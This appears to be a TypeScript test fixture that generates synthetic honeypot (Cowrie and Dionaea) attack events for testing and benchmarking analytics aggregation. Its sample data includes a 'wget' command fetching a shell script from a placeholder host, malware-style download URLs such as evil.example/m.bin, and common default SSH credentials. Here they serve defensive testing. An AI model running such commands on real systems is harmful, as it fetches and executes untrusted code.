// Random attack traffic and a minimal stand-in of the events writer's transaction, for the
// analytics tests and bench: events are inserted and the ingest runs in the same transaction.
import type Database from 'better-sqlite3';
import type { AggregateContext } from '../../src/analytics/aggregate.js';
import { DIMENSIONS, normaliseEvent, type AttackIngest, type Dimension } from '../../src/analytics/index.js';
import type { StoredEvent } from '../../src/analytics/record.js';

import { seededRandom as rng } from '../helpers/random.js';

export { rng };

export const PUBLIC_IPS = ['8.8.8.8', '1.1.1.1', '9.9.9.9', '185.220.101.4', '45.148.10.242', '2a00:1450:4001::1', '104.16.0.1', '51.15.0.9'];
export const OTHER_IPS = ['10.0.0.7', '192.168.1.20', '127.0.0.1', '192.0.2.10', '198.51.100.77', '::ffff:8.8.4.4'];
const USERS = ['root', 'admin', 'pi', 'ubuntu'];
const PASSES = ['123456', 'admin', 'raspberry', 'hunter2', 'root'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'wget http://198.51.100.7/x.sh', 'free -m'];
const URLS = ['http://198.51.100.7/x.sh', 'http://203.0.113.9/bot.arm7', 'http://evil.example/m.bin'];
const HASHES = ['a'.repeat(64), 'b'.repeat(64), 'c'.repeat(64)];

/** Random cowrie and dionaea events between start and start + spanMs. */
export function randomEvents(n: number, start: number, spanMs: number, seed: number, firstId = 1): StoredEvent[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)]!;
  const ips = [...PUBLIC_IPS, ...OTHER_IPS];
  const nodes = ['node-a', 'node-b', 'node-c'];
  const out: StoredEvent[] = [];
  for (let i = 0; i < n; i++) {
    const ts = start + Math.floor(r() * spanMs);
    const node = pick(nodes);
    const ip = pick(ips);
    if (r() < 0.75) {
      // A session belongs to one source address, as on a real pot.
      const session = `${ip}#${Math.floor(r() * 20)}`;
      const kind = Math.floor(r() * 7);
      const base = { session, src_ip: ip, src_port: 1024 + Math.floor(r() * 60000), dst_ip: '10.9.9.9', dst_port: pick([22, 2222, 23]), protocol: 'ssh' };
      const [eventid, extra]: [string, Record<string, unknown>] =
        kind === 0 ? ['cowrie.session.connect', {}]
        : kind === 1 || kind === 2 ? ['cowrie.login.failed', { username: pick(USERS), password: pick(PASSES) }]
        : kind === 3 ? ['cowrie.login.success', { username: pick(USERS), password: pick(PASSES) }]
        : kind === 4 ? ['cowrie.command.input', { input: pick(COMMANDS) }]
        : kind === 5 ? ['cowrie.session.file_download', { url: pick(URLS), shasum: pick(HASHES) }]
        : ['cowrie.session.closed', {}];
      out.push({ id: firstId + i, node, potId: 'cowrie-1', potType: 'cowrie', eventType: eventid, timestamp: ts, data: { eventid, ...base, ...extra } });
    } else {
      const capture = r() < 0.3;
      const data: Record<string, unknown> = capture
        ? { saddr: ip, sport: 40000, daddr: '10.9.9.9', dport: 445, url: pick(URLS), md5: pick(['d'.repeat(32), 'e'.repeat(32)]) }
        : { remote_host: ip, remote_port: 40000, local_host: '10.9.9.9', local_port: pick([445, 80, 1433]), connection_transport: 'tcp', connection_protocol: 'smbd' };
      out.push({ id: firstId + i, node, potId: 'dionaea-1', potType: 'dionaea', eventType: capture ? 'dionaea.capture' : 'dionaea.connections', timestamp: ts, data });
    }
  }
  return out;
}

/** Inserts the events and runs the ingest in one transaction, in batches like the events writer. */
export function storeEvents(sqlite: Database.Database, ingest: AttackIngest, events: readonly StoredEvent[], batchSize = 250): void {
  const insert = sqlite.prepare(
    'INSERT INTO events (id, node_name, pot_id, pot_type, event_type, timestamp, data, received_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?)',
  );
  const tx = sqlite.transaction((batch: readonly StoredEvent[]) => {
    for (const e of batch) insert.run(e.id, e.node, e.potId, e.potType, e.eventType, e.timestamp, JSON.stringify(e.data), e.timestamp);
    ingest(sqlite, batch);
  });
  for (let i = 0; i < events.length; i += batchSize) tx(events.slice(i, i + batchSize));
}

const keyCache = new WeakMap<StoredEvent, Map<Dimension, string | null>>();
/** The key of an event under a dimension (memoised: the brute force asks thousands of times). */
export function eventKey(ctx: AggregateContext, e: StoredEvent, by: Dimension): string | null {
  let m = keyCache.get(e);
  if (m === undefined) {
    m = new Map(DIMENSIONS.map((d) => [d, computeKey(ctx, e, d)]));
    keyCache.set(e, m);
  }
  return m.get(by)!;
}

/** The key of an event under a dimension, computed from the record and the geo lookup directly. */
function computeKey(ctx: AggregateContext, e: StoredEvent, by: Dimension): string | null {
  const r = normaliseEvent(e);
  const geo = r.src_ip === null ? null : ctx.geo!.lookup(r.src_ip);
  const login = r.login !== null && (r.ssh_username !== null || r.ssh_password !== null);
  switch (by) {
    case 'event_type': return e.eventType;
    case 'node': return e.node;
    case 'pot_type': return e.potType;
    case 'src_ip': return r.src_ip;
    case 'dst_port': return r.dest_port === null ? null : String(r.dest_port);
    case 'country': return geo === null ? null : geo.scope !== 'public' ? geo.scope : (geo.country ?? 'unknown');
    case 'asn': return geo?.asn == null ? null : String(geo.asn);
    case 'username': return login ? (r.ssh_username ?? '') : null;
    case 'password': return login ? (r.ssh_password ?? '') : null;
    case 'credential': return login ? JSON.stringify([r.ssh_username ?? '', r.ssh_password ?? '']) : null;
    case 'command': return r.command;
    case 'url': return r.url;
    case 'hash': return r.sha256 ?? r.md5;
  }
}


const HOUR = 3_600_000;

/**
 * The true top-N by counting events one by one: events in [since, until) widened to whole hours,
 * optionally of one node and pot type, highest count first, ties by key (byte order).
 */
export function bruteTop(
  ctx: AggregateContext,
  events: readonly StoredEvent[],
  by: Dimension,
  since: number,
  until: number,
  node?: string,
  potType?: string,
): { key: string; count: number }[] {
  const lo = Math.floor(since / HOUR) * HOUR;
  const hi = Math.ceil(until / HOUR) * HOUR;
  const counts = new Map<string, number>();
  for (const e of events) {
    if (e.timestamp < lo || e.timestamp >= hi) continue;
    if (node !== undefined && e.node !== node) continue;
    if (potType !== undefined && e.potType !== potType) continue;
    const k = eventKey(ctx, e, by);
    if (k !== null) counts.set(k, (counts.get(k) ?? 0) + 1);
  }
  return [...counts].map(([key, count]) => ({ key, count })).sort((a, b) => b.count - a.count || (a.key < b.key ? -1 : a.key > b.key ? 1 : 0));
}
